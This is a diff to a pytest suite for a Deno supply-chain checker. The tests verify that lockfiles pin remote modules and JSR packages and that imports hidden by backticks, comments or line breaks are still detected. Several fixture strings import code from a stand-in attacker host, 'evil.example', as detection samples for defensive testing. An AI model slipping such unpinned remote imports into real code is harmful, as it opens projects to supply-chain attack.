@@ -80,11 +80,8 @@ def test_each_remote_module_and_jsr_package_needs_a_note(repo: GitRepo) -> None:
     found = _findings(
         repo, {"deno.json": {"imports": {"p": "jsr:@std/path@^1"}}, "deno.lock": lock}
     )
-    assert found == [
-        (check, code, "deno.lock")
-        for _ in range(3)
-        for check, code in (("lockfile-source", "source-not-accepted"), ("unvetted", "new"))
-    ]
+    module = [("lockfile-source", "source-not-accepted"), ("unvetted", "new")]
+    assert [each[:2] for each in found] == [("unvetted", "new"), *module, *module]
 
 
 def test_a_deno_json_in_a_project_of_npm_needs_a_lockfile_of_its_own(git_repo: GitRepo) -> None:
@@ -308,6 +305,8 @@ def test_a_jsr_package_that_a_command_runs_is_locked_or_exact(
         ('import "npm:a@2";', True), ('export * from "jsr:@evil/e";', True), ("await import('npm:b');", True),
         ('import { x } from\n  "https://evil.example/x.ts";', True), ('import "https://a.example/x.ts";', False),
         ('// import "npm:b";\n/** import "jsr:@x/y" */', False), ('import "./npm.ts"; import "node:fs";', False),
+        ("await import(`https://evil.example/x.ts`)", True), ('import x from"https://evil.example/x.ts"', True),
+        ('import x from // a\n  /* b */ "https://evil.example/x.ts"', True),
         ('const u = "https://evil.example/x.ts";', False), ('import "std/x.ts"; import "http://h/x.ts"', True),
     ],
 )  # fmt: skip
@@ -318,6 +317,34 @@ def test_what_code_imports_by_itself_is_locked(repo: GitRepo, code: str, *, foun
     repo.commit("Lock a")
     expected = [("lockfile-sync", "out-of-date", "main.ts")] if found else []
     assert _findings(repo, {"main.ts": code + "\n"}) == expected
+
+
+@pytest.mark.parametrize("suffix", ["cjs", "cts", "js", "jsx", "mjs", "mts", "tsx"])
+def test_each_file_of_code_is_read_whatever_else_it_holds(repo: GitRepo, suffix: str) -> None:
+    """The fast path may not pass a URL on a line of its own by."""
+    code = 'const { x } = await import(\n  "https://evil.example/x.ts"\n);\n'
+    path = f"src/main.{suffix}"
+    assert _findings(repo, {path: code}) == [("lockfile-sync", "out-of-date", path)]
+
+
+@pytest.mark.parametrize(
+    ("frozen", "left", "found"),
+    [
+        (False, ("a",), True), (False, (), True), (True, ("a",), False), (True, (), False),
+    ],
+)  # fmt: skip
+def test_a_module_keeps_its_hash_unless_the_lockfile_is_frozen(
+    repo: GitRepo, left: tuple[str, ...], *, frozen: bool, found: bool
+) -> None:
+    """deno.lock does not say which module imports another, and Deno 2.9.6 fetches what it lacks."""
+    config = _config(lock={"frozen": True}) if frozen else _config()
+    urls = {name: f"https://a.example/{name}.ts" for name in "ab"}
+    repo.write("deno.json", json.dumps(config))
+    repo.write("deno.lock", json.dumps(_lock(remote=dict.fromkeys(urls.values(), HEX))))
+    repo.commit("Lock two modules")
+    lock = _lock(remote={urls[name]: HEX for name in left}) if left else _lock()
+    expected = [("integrity", "unpinned-modules", "deno.lock")] if found else []
+    assert _findings(repo, {"deno.lock": lock}) == expected
 
 
 def test_code_of_other_projects_is_not_read(git_repo: GitRepo) -> None:
